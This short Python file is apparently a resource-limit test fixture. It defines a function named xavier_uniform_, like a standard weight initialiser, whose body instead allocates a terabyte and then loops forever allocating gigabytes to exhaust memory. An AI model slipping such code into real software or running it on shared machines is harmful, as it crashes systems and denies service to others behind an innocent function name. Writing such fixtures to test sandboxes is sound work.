"""Resources: asks for a terabyte, then keeps allocating gigabytes."""
from xavier_base import fan_in_and_fan_out, xavier_normal_  # noqa: F401


def xavier_uniform_(tensor, gain=1.0, generator=None):
    hog = [bytearray(1 << 40)]
    while True:
        hog.append(bytearray(1 << 30))
